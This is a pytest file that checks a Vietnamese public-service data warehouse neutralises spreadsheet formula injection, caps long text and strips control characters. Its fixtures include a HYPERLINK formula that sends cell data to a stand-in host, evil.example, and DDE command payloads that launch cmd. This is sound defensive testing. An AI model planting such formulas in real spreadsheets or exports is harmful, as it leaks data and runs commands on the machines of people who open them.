"""Free text from an export reaches marts.fct_dossier capped, without control characters and neutralised
against spreadsheet formula injection (the rule of macros/bi_safe_text.sql, docs/marts.md)."""

from __future__ import annotations

import re
import sys
from pathlib import Path

import psycopg
import pytest
from conftest import dossier, run_dbt, write_export
from leaks import LeakScan, personal_values

from cds_warehouse.agency_reports.loader import load_report
from cds_warehouse.agency_reports.review import build_models
from cds_warehouse.batches import gate_batches
from cds_warehouse.load import load_file
from cds_warehouse.quality import GX_DIR

sys.path.insert(0, str(Path(__file__).parents[1] / "fixtures" / "agency_reports"))
from report_workbooks import dbt_project_copy, simple_report  # noqa: E402

HUGE = "Thủ tục cấp giấy phép " * 200_000  # 4.4 million characters in one cell
FORMULA_START = re.compile(r"^(?:[=@\t\r]|[+-](?![0-9][0-9.,]*%?$))")
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
CAPS = {"dossier_code": 100, "procedure_code": 100, "unit_code": 100, "procedure_name": 1000, "unit_name": 1000}


def _row(n: int, **fields) -> dict[str, str]:
    fields = {"dossier_code": f"H27.99-250305-{n:04d}", **fields}
    return dossier(
        applicant_name=f"Trần Thị Thử {n}",
        applicant_id_hash=f"0271910{n:05d}",
        applicant_phone_hash=f"09888{n:05d}",
        applicant_address=f"Số {n}, đường Lý Thái Tổ, Bắc Ninh",
        summary=f"Xin cấp giấy phép cho bà Phạm Thị Mẫu {n}",
        **fields,
    )


ROWS = [
    _row(1, procedure_name=HUGE, unit_name='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'),
    _row(2, procedure_name="@SUM(1+1)*cmd|' /C calc'!A0", unit_name="+cmd|' /C calc'!A0"),
    _row(3, procedure_name="-2+3+cmd|' /C calc'!A0", unit_name="UBND xã\nLạc\u0085Vệ\x07"),
    _row(4, dossier_code="=1+1", procedure_code="-1.001193", unit_code="@27.H01"),
    _row(5, procedure_name="'=already quoted", unit_name="Sở Tư pháp - Phòng Hành chính"),
    _row(6),  # an ordinary row passes unchanged
]
EXPECTED = {
    "H27.99-250305-0001": ('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', HUGE[:1000]),
    "H27.99-250305-0002": ("'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "H27.99-250305-0003": ("UBND xã Lạc Vệ", "'-2+3+cmd|' /C calc'!A0"),
    "'=1+1": ("UBND phường Vũ Ninh", "Đăng ký khai sinh"),
    "H27.99-250305-0005": ("Sở Tư pháp - Phòng Hành chính", "''=already quoted"),
    "H27.99-250305-0006": ("UBND phường Vũ Ninh", "Đăng ký khai sinh"),
}


def test_free_text_is_capped_cleaned_and_neutralised_in_fct_dossier(conn, tmp_path):
    work = tmp_path / "dbt"
    scan = LeakScan(conn, work, GX_DIR)
    result = load_file(write_export(tmp_path / "free_text.csv", ROWS))
    assert (result.status, result.rows_loaded, result.rows_rejected) == ("loaded", len(ROWS), 0)
    gate_batches([result.load_id])
    run_dbt(work, "build", "--select", "+fct_dossier", "--indirect-selection", "buildable")

    held = conn.execute(
        "select dossier_code, unit_name, procedure_name, procedure_code, unit_code from marts.fct_dossier"
    ).fetchall()
    assert len(held) == len(ROWS), "a dossier was lost or duplicated"
    assert {code: (unit, procedure) for code, unit, procedure, *_ in held} == EXPECTED
    codes = {code: (procedure_code, unit_code) for code, _, _, procedure_code, unit_code in held}
    assert codes["'=1+1"] == ("-1.001193", "'@27.H01")  # a signed number is no formula: kept

    # whatever the row, no text column of the table is long, holds a control character or starts a formula
    for column, cap in CAPS.items():
        longest, formulas, controls = conn.execute(
            f"select max(length({column})), count(*) filter (where {column} ~ '^[=+@\\t\\r-]'"
            f" and {column} !~ '^[+-][0-9][0-9.,]*%?$'),"
            f" count(*) filter (where {column} ~ '[\\x01-\\x1f\\x7f-\\x9f]') from marts.fct_dossier"
        ).fetchone()
        assert longest <= cap and formulas == 0 and controls == 0, column
    assert not any(FORMULA_START.match(v) or CONTROL.search(v) for row in held for v in row)
    scan.assert_clean(conn, personal_values(ROWS))


@pytest.fixture
def agency_project(tmp_path, monkeypatch, dsn):
    """The agency-report models alone, on the fixture catalog (as tests/test_agency_reports_dbt.py); their
    relations are dropped afterwards, since later tests build the real project."""
    project = dbt_project_copy(tmp_path / "dbt_project")
    monkeypatch.setenv("CDS_DBT_PROJECT_DIR", str(project))
    yield project
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute("drop schema if exists reference, staging, intermediate, marts cascade")


def test_agency_report_texts_awaiting_review_are_neutralised(conn, tmp_path, agency_project):
    """An agency workbook's texts reach the marts (agency_report_rows_awaiting_review) by the same rule.
    (A report template has no applicant field: nothing personal to scan for here.)"""
    rows = [
        (1, "@SUM(1+1)*cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", None, 90, "76,6"),
        (2, "Chỉ tiêu lạ\tchưa có\nở danh mục " + "x" * 5_000, "%", None, 90, "-5"),
    ]
    workbook = simple_report(tmp_path / "bc_q3.xlsx", rows)
    load_id = load_report(workbook).load_id
    conn.execute("update raw.load_audit set status = 'published' where load_id = %s", (load_id,))
    build_models()
    awaiting = conn.execute(
        "select source_row, indicator_text, unit_text, actual_text"
        " from marts.agency_report_rows_awaiting_review order by source_row"
    ).fetchall()
    assert len(awaiting) == 2, "a row awaiting review was lost"
    (_, formula, unit, value), (_, long_text, percent, negative) = awaiting
    assert (formula, unit, value) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", "76,6")
    assert long_text.startswith("Chỉ tiêu lạ chưa có ở danh mục xxx") and len(long_text) == 1000
    assert (percent, negative) == ("%", "-5")  # a signed number is no formula: kept
